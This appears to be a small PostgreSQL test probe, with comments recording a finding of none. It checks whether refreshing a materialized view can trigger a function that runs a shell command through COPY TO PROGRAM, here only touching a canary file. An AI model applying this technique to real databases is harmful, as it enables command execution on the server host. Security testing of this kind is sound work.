-- tries: have code run when a materialized view is refreshed
-- finding: none by reading
-- sides: confined on a private server, without rights on one in use
CREATE FUNCTION public.f() RETURNS integer
    LANGUAGE plpgsql
    AS $$BEGIN COPY (SELECT 1) TO PROGRAM 'touch {canary}'; RETURN 1; END$$;

CREATE MATERIALIZED VIEW public.m AS SELECT public.f() WITH NO DATA;

REFRESH MATERIALIZED VIEW public.m;
